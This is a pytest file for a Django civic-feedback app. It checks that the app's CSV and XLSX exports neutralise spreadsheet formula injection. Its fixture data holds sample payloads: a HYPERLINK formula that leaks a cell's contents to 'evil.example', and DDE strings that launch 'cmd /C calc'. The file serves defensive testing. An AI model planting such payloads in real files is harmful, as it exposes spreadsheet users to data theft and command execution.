"""Text written by residents, facilitators or administrators never becomes a formula in a spreadsheet
("CSV injection"): CSV cells starting like a formula get a leading apostrophe, XLSX cells are text."""

import csv
import io
from datetime import timedelta

import pytest
from django.test import Client
from django.utils import timezone
from openpyxl import load_workbook

from ovoz.accounts.choices import DeploymentRole, GrantRole
from ovoz.accounts.tests.factories import UserFactory
from ovoz.concerns import services
from ovoz.concerns.choices import Channel, Status
from ovoz.concerns.models import Theme
from ovoz.groups import services as group_services
from ovoz.groups.tests.factories import MemberFactory, WorkingGroupFactory
from ovoz.places.models import Area
from ovoz.testing.web import sign_in

pytestmark = pytest.mark.django_db

PUBLIC_TEXT = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
AREA = "@SUM(1+1)*cmd|' /C calc'!A0"
THEME = "+cmd|' /C calc'!A0"
INSTITUTION = "-2+3+cmd|' /C calc'!A0"
CONCERN_TEXT = "=1+1\tand a tab"


@pytest.fixture
def formulas(db):
    country = Area.objects.create(kind="country", code="UZ", name="Uzbekistan")
    region = Area.objects.create(kind="region", code="UZ-JI", name=AREA, parent=country)
    theme = Theme.objects.create(slug="water", labels={"en": THEME})
    group = WorkingGroupFactory(name="=GROUP()", slug="jizzakh", area=region)
    facilitator = MemberFactory(working_group=group, role=GrantRole.FACILITATOR).user
    concern = services.concern_submit(text=CONCERN_TEXT, channel=Channel.WEB, area=region, themes=[theme]).concern
    services.concern_publish(actor=facilitator, concern=concern, public_text=PUBLIC_TEXT)
    for status in (Status.ACCEPTED, Status.PRIORITISED):
        services.concern_change_status(actor=facilitator, concern=concern, status=status)
    institution = group_services.institution_create(actor=facilitator, area=region, name=INSTITUTION)
    group_services.action_create(
        actor=facilitator,
        group=group,
        title="Repair",
        concerns=[concern],
        owner=institution,
        due_on=timezone.localdate() + timedelta(days=5),
    )
    staff = Client()
    sign_in(staff, UserFactory(username="admin", role=DeploymentRole.ADMINISTRATOR))
    return staff


def _cells(response) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(body.decode())) for cell in row]


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("/data/concerns.csv", [PUBLIC_TEXT, AREA]),
        ("/data/areas.csv", [AREA]),
        ("/en/dashboard/themes.csv", [THEME]),
        ("/en/dashboard/promises.csv", [INSTITUTION, "=GROUP()"]),
        ("/staff/dashboard/areas.csv", [AREA]),
        ("/staff/exports/concerns.csv", [CONCERN_TEXT, AREA]),
    ],
)
def test_csv_cells_never_start_like_a_formula(formulas, url, expected):
    response = formulas.get(url)
    assert response.status_code == 200
    cells = _cells(response)
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    for text in expected:
        assert "'" + text in cells


def test_xlsx_cells_are_text_not_formulas(formulas):
    response = formulas.get("/data/concerns.xlsx")
    sheet = load_workbook(io.BytesIO(response.content))["concerns"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert PUBLIC_TEXT in [cell.value for cell in cells]
